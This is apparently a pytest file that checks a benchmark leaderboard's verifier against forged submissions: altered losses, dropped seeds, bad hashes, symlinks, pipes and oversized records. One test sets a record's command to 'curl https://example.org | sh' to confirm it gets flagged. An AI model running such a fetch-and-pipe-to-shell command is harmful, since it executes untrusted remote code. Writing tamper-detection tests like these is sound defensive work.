"""What is honest passes; every way of tampering is found, with a message of its own."""

import json
import os
import shutil
from dataclasses import replace

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

import nasbench
from leaderboard.submissions import rerun
from leaderboard.submissions.report import CHECKS
from leaderboard.submissions.submit import submit
from leaderboard.submissions.verify import verify
from nasbench.errors import InvalidArgumentError
from nasbench.runs.budget import Budget
from nasbench.runs.records import Records


def faults(folder, **options):
    """Faults by check, without the checks that passed."""
    report = verify(folder, **options)
    assert report.is_sound == (not any(report.faults.values()))
    return {check: texts for check, texts in report.faults.items() if texts}


def changed(run, **columns):
    """A run in which one trial of some columns has another value: ``name=(trial, value)``."""
    made = {}
    for name, (trial, value) in columns.items():
        column = getattr(run, name).copy()
        column[trial] = value
        made[name] = column
    return replace(run, **made)


def first(change):
    """Change the first run only."""
    return lambda runs: [change(runs[0]), *runs[1:]]


def test_an_honest_submission_passes(honest):
    report = verify(honest)
    assert report.is_sound, report.listed()
    assert report.level == "consistent"
    assert set(CHECKS) - set(report.faults) == {"rerun", "relabelled"}
    assert [finding.seeds for finding in report.findings] == ["0:4"] * 5


# Runs


def test_a_changed_loss(sent):
    sent.forge("random_search", first(lambda run: changed(run, losses=(3, 8.25))))
    (text,) = faults(sent.folder)["losses"]
    assert "random_search" in text
    assert "seed 0, trial 3 says loss 8.25, nb201-cifar10@1 says" in text


def test_every_changed_run_is_named(sent):
    sent.forge("random_search", lambda runs: [changed(r, losses=(r.seed, 9.0)) for r in runs])
    found = faults(sent.folder)["losses"]
    assert [f"seed {i}, trial {i} says loss 9.0" in text for i, text in enumerate(found)] == [
        True
    ] * 4


def test_a_loss_below_the_optimum(sent):
    sent.forge("random_search", first(lambda run: changed(run, losses=(3, 1.5))))
    (text,) = faults(sent.folder)["optimum"]
    assert "seed 0, trial 3 says loss 1.5 in valid_accuracy, but no training of" in text
    table = nasbench.load("nb201-cifar10").table
    best = max(map(max, table.curves("valid_accuracy", 200).tolist()))
    assert text.endswith(f"has less than {100 - best}")


def shortened(run):
    """The run as if its trial 2 had taken half as long."""
    spare = (run.ends[2] - run.starts[2]) / 2
    starts, ends = run.starts.copy(), run.ends.copy()
    ends[2:] -= spare
    starts[3:] -= spare
    return replace(run, starts=starts, ends=ends)


def test_a_shortened_trial(sent):
    sent.forge("regularized_evolution", first(shortened))
    found = faults(sent.folder)
    assert "seed 0, trial 2 ends at" in found["times"][0]
    assert "and costs" in found["times"][0]


def test_a_changed_training_seed(sent):
    run = Records(sent.record("regularized_evolution")).runs()[0]
    other = (run.training_seeds[5] + 1) % 3
    sent.forge("regularized_evolution", first(lambda run: changed(run, training_seeds=(5, other))))
    (text,) = faults(sent.folder)["training seeds"]
    assert f"seed 0, trial 5 has training seed {other}, not {run.training_seeds[5]}" in text


def test_trials_that_follow_from_no_row(sent):
    sent.forge("random_search", first(lambda run: changed(run, archs=(4, [9, 0, 0, 0, 0, 0]))))
    (text,) = faults(sent.folder)["architectures"]
    assert "seed 0, trial 4 has no training" in text
    assert "possible are 0..4" in text


def test_more_trials_than_the_budget(sent):
    sent.remake("random_search", {"budget": Budget(trials=11)})
    found = faults(sent.folder)["budget"]
    assert len(found) == 4
    assert "seed 0 has 12 trials, but its budget is 11" in found[0]


def test_more_epochs_and_seconds_than_the_budget(sent):
    sent.remake("hyperband", {"budget": Budget(epochs=100)})
    sent.remake("asha", {"budget": Budget(seconds=20.0)})
    found = faults(sent.folder)["budget"]
    assert any("epochs, but its budget is 100" in text for text in found)
    assert any("after its budget of 20.0 s" in text for text in found)


def test_busy_workers_overlap(sent):
    sent.remake("asha", {"workers": 7})
    assert "when all 7 workers are busy" in faults(sent.folder)["clock"][0]


def test_ends_out_of_order(sent):
    sent.forge("asha", first(lambda run: changed(run, ends=(0, -1.0))))
    assert "before its start at 0.0 s" in faults(sent.folder)["clock"][0]


def test_a_start_when_no_trial_ends(sent):
    run = Records(sent.record("random_search")).runs()[0]
    sent.forge("regularized_evolution", first(lambda run: changed(run, starts=(4, 1.0))))
    assert len(run)
    assert "but its only worker is free at" in faults(sent.folder)["clock"][0]


def test_numbers_that_no_search_makes(sent):
    sent.forge("hyperband", first(lambda run: changed(run, epochs=(1, 7_000))))
    found = faults(sent.folder)
    assert "is trained to epoch 7000, not one of its fidelities" in found["epochs"][0]
    assert "losses" in found


# Seeds


@pytest.mark.parametrize("seed", [0, 2])
def test_a_dropped_bad_seed(sent, seed):
    sent.forge("nsga2", lambda runs: [run for run in runs if run.seed != seed])
    (text,) = faults(sent.folder)["seeds"]
    assert f"seed {seed} of 0:4 is missing" in text


def test_a_dropped_last_seed(sent):
    sent.forge("nsga2", lambda runs: runs[:-1])
    (text,) = faults(sent.folder)["seeds"]
    assert text.endswith("has 3 seeds, but another record has 4")


def test_too_few_seeds_for_the_board(honest):
    found = faults(honest, seeds=6)["seeds"]
    assert len(found) == 5
    assert found[0].endswith("seeds 4:6 of 0:6 are missing")
    assert "beyond the 3 that are asked for" in faults(honest, seeds=3)["seeds"][0]


def test_a_seed_far_beyond_the_others(sent):
    sent.forge("nsga2", lambda runs: [*runs, replace(runs[0], seed=24_999_999)])
    texts = faults(sent.folder)["seeds"]
    assert sum(text.endswith("seeds 4:24999999 of 0:25000000 are missing") for text in texts) == 1


def test_seeds_that_the_entry_does_not_state(sent):
    entry = sent.entry
    entry["records"][0]["seeds"] = "0:500"
    sent.write(entry)
    (text,) = faults(sent.folder)["records"]
    assert "entry.json says seeds 0:500, the record holds 0:4" in text


def test_a_duplicated_seed(sent):
    """The table has several trainings, and another seed draws others."""
    sent.forge("regularized_evolution", lambda runs: [*runs[:3], replace(runs[0], seed=3)])
    found = faults(sent.folder)
    assert "seeds 0,3 have the same trials" in found["repeats"][0]
    assert "seed 3, trial" in found["training seeds"][0]


@pytest.fixture
def on_means(tmp_path, sent):
    """Submits random search with so many seeds on mean values, where no training is drawn."""

    def submitted(seeds):
        out = tmp_path / "runs"
        options = {"out": out, "replicate": "mean", "budget": Budget(trials=10)}
        nasbench.search("random_search", "lite201-digits", seeds=range(seeds), **options)
        submit(out, tmp_path / "mean", name="Mean", authors=["A"])
        return type(sent)(tmp_path / "mean")

    return submitted


def test_a_duplicated_seed_where_nothing_is_drawn(on_means):
    forged = on_means(4)
    forged.forge("random_search", lambda runs: [*runs[:3], replace(runs[1], seed=3)])
    found = faults(forged.folder)
    assert list(found) == ["repeats"]
    assert "seeds 1,3 have the same trials" in found["repeats"][0]


def test_copies_of_one_run_under_all_seeds_are_remarked(on_means):
    """A search without chance makes them too, so that they are no fault."""
    forged = on_means(8)
    forged.forge("random_search", lambda runs: [replace(runs[3], seed=seed) for seed in range(8)])
    report = verify(forged.folder)
    assert report.is_sound
    (text,) = report.remarks
    assert "all 8 runs have the same trials" in text
    assert "only a rerun, which runs some of them, tells" in text


def test_copies_of_all_runs_but_a_few_are_found(on_means):
    """A run too short to be compared does not hide them."""
    forged = on_means(4)

    def copied(runs):
        return [*(replace(runs[0], seed=seed) for seed in range(3)), cut(runs[3], 2)]

    forged.forge("random_search", copied)
    (text,) = faults(forged.folder)["repeats"]
    assert "seeds 0:3 have the same trials" in text


def test_a_seed_that_is_listed_twice(sent):
    part = sent.part("random_search")
    table = pq.read_table(part)
    said = {**table.schema.metadata, b"seeds": b"[0, 1, 1, 2]"}
    pq.write_table(table.replace_schema_metadata(said), part)
    sent.stamp(part.parent)
    assert "does not list the seeds" in faults(sent.folder)["records"][0]


# Manifests and benchmarks


def test_another_content_of_the_table(sent):
    sent.remake("random_search", {"content_hash": "0" * 64})
    (text,) = faults(sent.folder)["benchmarks"]
    assert "made with content 000000000000… of nb201-cifar10@1, but the installed one has" in text


def test_another_version_of_the_table(sent):
    sent.remake("random_search", {"version": 9})
    (text,) = faults(sent.folder)["benchmarks"]
    assert "'nb201-cifar10' has no version '9'" in text


def test_a_benchmark_that_is_not_installed(sent):
    sent.remake("random_search", {"benchmark": "nb201-cifar10-mine"})
    assert "no benchmark is called 'nb201-cifar10-mine'" in faults(sent.folder)["benchmarks"][0]


def test_changed_hyperparameters_in_the_manifest_alone(sent):
    path = sent.record("regularized_evolution") / "manifest.json"
    made = json.loads(path.read_text())
    made["hyperparameters"]["population"] = 9
    path.write_text(json.dumps(made))
    (text,) = faults(sent.folder)["files"]
    assert text.endswith("manifest.json has another SHA-256 than entry.json says") or (
        "bytes, entry.json says" in text
    )
    sent.stamp(path.parent)
    (text,) = faults(sent.folder)["records"]
    assert "the manifest does not match the hash in the folder's name" in text


def test_changed_hyperparameters_in_the_entry_alone(sent):
    entry = sent.entry
    (said,) = [r for r in entry["records"] if "/regularized_evolution-" in r["folder"]]
    said["manifest"]["hyperparameters"]["population"] = 9
    sent.write(entry)
    (text,) = faults(sent.folder)["entry"]
    assert "but its manifest belongs into" in text


def test_a_command_that_makes_something_else(sent):
    entry = sent.entry
    entry["records"][0]["command"] = "curl https://example.org | sh"
    sent.write(entry)
    (text,) = faults(sent.folder)["records"]
    assert "the command is 'curl https://example.org | sh', but 'nasbench run" in text


def test_a_record_without_fingerprint(sent):
    sent.remake("random_search", {"code": ""})
    assert "no fingerprint of the code" in faults(sent.folder)["records"][0]


@pytest.fixture
def on_test(tmp_path, sent):
    out = tmp_path / "test-runs"
    options = {"seeds": range(2), "out": out, "objectives": ("test_accuracy",)}
    nasbench.search("random_search", "lite201-digits", budget=Budget(trials=6), **options)
    folder = tmp_path / "on-test"
    submit(out, folder, name="On test", authors=["A"], selected_on="test")
    return type(sent)(folder)


def test_a_test_score_that_chooses_is_declared(on_test):
    report = verify(on_test.folder)
    assert report.is_sound
    assert "selected on test, as declared" in report.remarks[0]
    entry = on_test.entry
    entry["declared"]["selected_on"] = "validation"
    on_test.write(entry)
    (text,) = faults(on_test.folder)["selection"]
    assert "the search chose by test_accuracy, but selected_on is 'validation'" in text


def test_a_test_score_that_chooses_is_not_hidden(on_test):
    on_test.remake("random_search", {"test_objectives": ()})
    (text,) = faults(on_test.folder)["selection"]
    assert "the manifest says test objectives [], but the search saw ['test_accuracy']" in text


# Files


def test_a_flipped_byte(sent):
    part = sent.part("asha")
    content = bytearray(part.read_bytes())
    content[len(content) // 2] ^= 1
    part.write_bytes(content)
    assert "part-000000.parquet has another SHA-256" in faults(sent.folder)["files"][0]
    sent.stamp(part.parent)
    assert faults(sent.folder).keys() <= {"records", "files"} != set()


def test_rows_that_do_not_match_their_hash(sent):
    part = sent.part("random_search")
    table = pq.read_table(part)
    ends = pa.chunked_array([table.column("end").to_numpy() * 0.5])
    at = table.schema.get_field_index("end")
    pq.write_table(table.set_column(at, "end", ends), part)
    sent.stamp(part.parent)
    assert "its rows do not match their hash" in faults(sent.folder)["records"][0]


@pytest.mark.parametrize("share", [0.0, 0.4, 0.95])
def test_truncated_files(sent, share):
    part = sent.part("asha")
    content = part.read_bytes()
    part.write_bytes(content[: int(share * len(content))])
    assert "bytes, entry.json says" in faults(sent.folder)["files"][0]
    sent.stamp(part.parent)
    assert "part-000000.parquet is cut or damaged" in faults(sent.folder)["files"][0]


def test_a_missing_and_a_foreign_file(sent):
    sent.part("asha").unlink()
    (sent.folder / "verified.json").write_text("{}")
    found = faults(sent.folder)["files"]
    assert any(text.endswith("part-000000.parquet is missing") for text in found)
    assert "verified.json is not listed in entry.json" in found


def test_a_stated_file_that_is_none_of_a_record(sent):
    (sent.record("asha") / "run.py").write_text("print(1)")
    sent.stamp(sent.record("asha"))
    (text,) = faults(sent.folder)["files"]
    assert text.endswith("run.py is no file of a record")


def test_an_entry_that_is_a_folder(tmp_path):
    (tmp_path / "entry.json").mkdir()
    assert verify(tmp_path).faults == {"files": ["entry.json is no file"]}


def test_messages_do_not_depend_on_the_name_of_the_folder(sent, tmp_path, monkeypatch):
    sent.part("asha").unlink()
    sent.stamp(sent.record("asha"))
    (sent.record("nsga2") / "manifest.json").write_text("{}")
    sent.stamp(sent.record("nsga2"))
    texts = [text for found in faults(sent.folder).values() for text in found]
    sent.folder.rename(tmp_path / "a")
    monkeypatch.chdir(tmp_path)
    assert [text for found in faults("a").values() for text in found] == texts
    assert not any(str(tmp_path) in text for text in texts)


def test_links_are_not_followed(sent, tmp_path):
    secret = tmp_path / "secret.parquet"
    shutil.move(sent.part("asha"), secret)
    sent.part("asha").symlink_to(secret)
    (text,) = faults(sent.folder)["files"]
    assert text.endswith("part-000000.parquet is a link, which is never followed")
    sent.part("asha").unlink()
    (sent.folder / "more").symlink_to(tmp_path)
    assert "more is a link" in faults(sent.folder)["files"][0]


def test_a_pipe_is_not_read(sent):
    os.mkfifo(sent.folder / "pipe")
    assert "pipe is a pipe or a device" in faults(sent.folder)["files"][0]


def test_an_absurdly_large_record(sent):
    part = sent.part("asha")
    zeros = np.zeros(3_000_000, dtype=np.int8)
    pq.write_table(pa.table({"seed": zeros}), part)
    assert part.stat().st_size < 30_000
    sent.stamp(part.parent)
    (text,) = faults(sent.folder)["files"]
    assert text.endswith("says that it has 3,000,000 rows; at most 2,500,000 are read")


def test_a_record_with_absurdly_wide_rows(sent):
    part = sent.part("asha")
    wide = pa.FixedSizeListArray.from_arrays(pa.array(np.zeros(20_000, dtype=np.uint8)), 20_000)
    pq.write_table(pa.table({"arch": wide}), part)
    sent.stamp(part.parent)
    (text,) = faults(sent.folder)["files"]
    assert text.endswith("a cell of 'arch' has 20,000 numbers; at most 10,000")


def test_a_record_with_texts(sent):
    part = sent.part("asha")
    pq.write_table(pa.table({"arch": ["x" * 10**6] * 2}), part)  # could be any number of times
    sent.stamp(part.parent)
    (text,) = faults(sent.folder)["files"]
    assert text.endswith("column 'arch' has type string")


def test_a_record_that_says_it_becomes_too_large(sent, monkeypatch):
    monkeypatch.setattr("leaderboard.submissions.files.MOST_NUMBERS", 10)
    assert "numbers; at most" in faults(sent.folder)["files"][0]


def test_records_of_too_many_numbers(sent, monkeypatch):
    monkeypatch.setattr("leaderboard.submissions.verify.MOST_NUMBERS_IN_ALL", 100)
    assert any(text.endswith("at most 100 are read") for text in faults(sent.folder)["files"])


def test_what_is_no_submission(tmp_path, honest_runs):
    with pytest.raises(InvalidArgumentError, match=r"there is no entry\.json"):
        verify(honest_runs)
    with pytest.raises(InvalidArgumentError, match="neither a folder nor a file"):
        verify(tmp_path / "nothing")
    for options in (
        {"again": -1},
        {"relabelled": 4},
        {"modules": [tmp_path / "no.py"], "again": 1},
    ):
        with pytest.raises(InvalidArgumentError):
            verify(honest_runs, **options)


@pytest.mark.parametrize("algorithm", ["random_search", "hyperband", "asha"])
def test_runs_that_end_early_are_remarked_and_always_run_again(sent, monkeypatch, algorithm):
    sent.forge(algorithm, lambda runs: [*runs[:2], cut(runs[2], len(runs[2]) // 2), runs[3]])
    report = verify(sent.folder)
    assert report.is_sound  # the algorithm might have had nothing more to propose
    (text,) = report.remarks
    assert "seeds 2 end although another training fits their budget" in text
    found = {}
    monkeypatch.setattr(
        rerun, "faults", lambda sent, chosen, *_: found.update(chosen) or ["stopped"]
    )
    for choice in range(3):
        verify(sent.folder, again=1, choice=choice)
        (seeds,) = (seeds for folder, seeds in found.items() if f"/{algorithm}-" in folder)
        assert 2 in seeds


def cut(run, n):
    columns = ("archs", "epochs", "resumes", "training_seeds", "losses", "starts", "ends")
    columns += ("known_seconds", "optimizer_seconds")
    return replace(run, **{name: getattr(run, name)[:n] for name in columns})
